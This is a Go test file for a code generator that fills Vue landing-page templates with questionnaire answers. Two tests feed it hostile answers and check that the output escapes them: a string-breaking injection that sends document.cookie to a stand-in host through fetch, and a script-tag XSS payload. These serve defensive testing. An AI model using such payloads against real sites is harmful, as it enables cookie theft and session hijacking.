package scaffold

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/bartekus/autoui/internal/console"
	"github.com/bartekus/autoui/internal/questionnaire"
	"github.com/bartekus/autoui/internal/testutil/golden"
)

func sampleAnswers() questionnaire.Answers {
	return questionnaire.Answers{
		"product_name": "Acme Rockets",
		"tagline":      "Launch faster",
		"primary_cta":  "Get early access",
		"brand_tone":   questionnaire.SkipSentinel,
		"chart_lib":    "echarts",
	}
}

func TestValues(t *testing.T) {
	vals := Values(sampleAnswers())

	assert.Equal(t, "Acme Rockets", vals["PRODUCT_NAME"])
	assert.Equal(t, "friendly", vals["BRAND_TONE"], "skipped answers use the fallback")
	assert.Equal(t, "waitlist", vals["OFFER_TYPE"], "missing answers use the fallback")
	assert.Len(t, vals, len(Placeholders))
}

func TestRender(t *testing.T) {
	got := Render("const name = ${PRODUCT_NAME}; // {{ x }} ${UNKNOWN}", map[string]string{"PRODUCT_NAME": "Acme"})
	assert.Equal(t, `const name = "Acme"; // {{ x }} ${UNKNOWN}`, got)
}

func TestRender_EscapesValues(t *testing.T) {
	tests := []struct {
		name  string
		value string
		want  string
	}{
		{"quotes cannot close the literal", `Acme", evil: fetch("//x.example/"+document.cookie), z: "`, `"Acme\", evil: fetch(\"//x.example/\"+document.cookie), z: \""`},
		{"script tags are escaped", `</script><script>alert(1)</script>`, `"\u003c/script\u003e\u003cscript\u003ealert(1)\u003c/script\u003e"`},
		{"backslashes are escaped", `a\`, `"a\\"`},
		{"line separators are escaped", "a\u2028b", `"a\u2028b"`},
		{"mustaches stay inert data", "{{ constructor }}", `"{{ constructor }}"`},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := Render("x = ${PRODUCT_NAME};", map[string]string{"PRODUCT_NAME": tt.value})
			assert.Equal(t, "x = "+tt.want+";", got)
		})
	}
}

func TestGenerator_HostileAnswers(t *testing.T) {
	out := t.TempDir()
	g := &Generator{OutDir: out, Log: console.Discard()}

	_, err := g.Generate(questionnaire.Answers{
		"product_name": `Acme", evil: fetch("//x.example/"+document.cookie), z: "`,
		"primary_cta":  `</script><script>alert(1)</script>`,
	})
	require.NoError(t, err)

	data, err := os.ReadFile(filepath.Join(out, "Landing.vue"))
	require.NoError(t, err)
	landing := string(data)

	assert.Contains(t, landing, `  name: "Acme\", evil: fetch(\"//x.example/\"+document.cookie), z: \"",`+"\n")
	assert.NotContains(t, landing, `"Acme", evil`)
	assert.Equal(t, 1, strings.Count(landing, "</script>"))
	assert.Contains(t, landing, `<button type="button" class="cta">{{ product.cta }}</button>`)
}

func TestGenerator_Generate(t *testing.T) {
	out := t.TempDir()
	g := &Generator{OutDir: out, Log: console.Discard()}

	written, err := g.Generate(sampleAnswers())
	require.NoError(t, err)
	assert.Equal(t, []string{
		filepath.Join(out, "Landing.vue"),
		filepath.Join(out, "components", "StatsChart.vue"),
		filepath.Join(out, "App.vue"),
	}, written)

	dir := golden.TestdataDir(t)
	for _, name := range []string{"Landing.vue", "StatsChart.vue", "App.vue"} {
		path := filepath.Join(out, name)
		if name == "StatsChart.vue" {
			path = filepath.Join(out, "components", name)
		}
		data, err := os.ReadFile(path)
		require.NoError(t, err)
		golden.Assert(t, dir, name, string(data))
	}
}

func TestGenerator_TemplateOverride(t *testing.T) {
	tmplDir := t.TempDir()
	require.NoError(t, os.WriteFile(
		filepath.Join(tmplDir, "Landing.vue.template"),
		[]byte("<script setup>\nconst p = [${PRODUCT_NAME}, ${TAGLINE}];\n</script>\n"),
		0o600,
	))

	out := t.TempDir()
	g := &Generator{TemplatesDir: tmplDir, OutDir: out, Log: console.Discard()}
	_, err := g.Generate(sampleAnswers())
	require.NoError(t, err)

	landing, err := os.ReadFile(filepath.Join(out, "Landing.vue"))
	require.NoError(t, err)
	assert.Equal(t, "<script setup>\nconst p = [\"Acme Rockets\", \"Launch faster\"];\n</script>\n", string(landing))

	// StatsChart has no override and falls back to the built-in template.
	chart, err := os.ReadFile(filepath.Join(out, "components", "StatsChart.vue"))
	require.NoError(t, err)
	assert.Contains(t, string(chart), `library: "echarts"`)
}
